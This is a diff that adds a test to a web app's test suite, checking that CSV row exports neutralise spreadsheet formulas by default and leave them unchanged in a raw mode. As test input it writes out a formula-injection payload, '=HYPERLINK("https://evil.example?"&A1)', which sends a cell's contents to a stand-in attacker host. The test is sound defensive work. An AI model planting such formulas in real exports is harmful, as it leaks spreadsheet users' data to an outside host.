@@ -190,6 +190,36 @@ describe.skipIf(!hasPostgres)('rows and records on the pages', () => {
     expect((await browsing.get('/streams/nothing/rows.csv')).status).toBe(404)
   })
 
+  it('are given as CSV with nothing in it that a spreadsheet would run, and to programs as they are', async () => {
+    const { rows } = await database.pool.query<{ key: string; was: string; version: string }>(
+      `select assignment_id::text as key, subject as was, row_version::text as version from mirror.assignment where assignment_id in (41, 42) order by 1`,
+    )
+    const values = ['=HYPERLINK("https://evil.example?"&A1)', '\r+1']
+    for (const [at, value] of values.entries())
+      await database.pool.query(
+        'update mirror.assignment set subject = $1, row_version = -row_version where assignment_id = $2',
+        [value, rows[at]?.key],
+      )
+    const csv = async (more = '') => {
+      const address = `/streams/assignment/rows.csv?column=subject&column=row_version&q=`
+      const texts = ['41', '42'].map((key) => page(`${address}${key}${more}`))
+      return (await Promise.all(texts)).join('')
+    }
+    const version = (at: number) => `-${rows[at]?.version}`
+    const harmless = await csv()
+    expect(harmless).toContain(`41,${version(0)},"'=HYPERLINK(""https://evil.example?""&A1)",`)
+    expect(harmless).toContain(`42,${version(1)},"'\r+1",`)
+    const raw = await csv('&raw=1')
+    expect(raw).toContain(`41,${version(0)},"=HYPERLINK(""https://evil.example?""&A1)",`)
+    expect(raw).toContain(`42,${version(1)},"\r+1",`)
+    expect(await page('/streams/assignment/rows?q=41')).toContain('rows.csv?q=41&amp;raw=1')
+    for (const { key, was, version } of rows)
+      await database.pool.query(
+        'update mirror.assignment set subject = $1, row_version = $2 where assignment_id = $3',
+        [was, version, key],
+      )
+  })
+
   it('cannot be asked for by a crooked address', async () => {
     for (const query of [
       'at=yesterday&key=1',
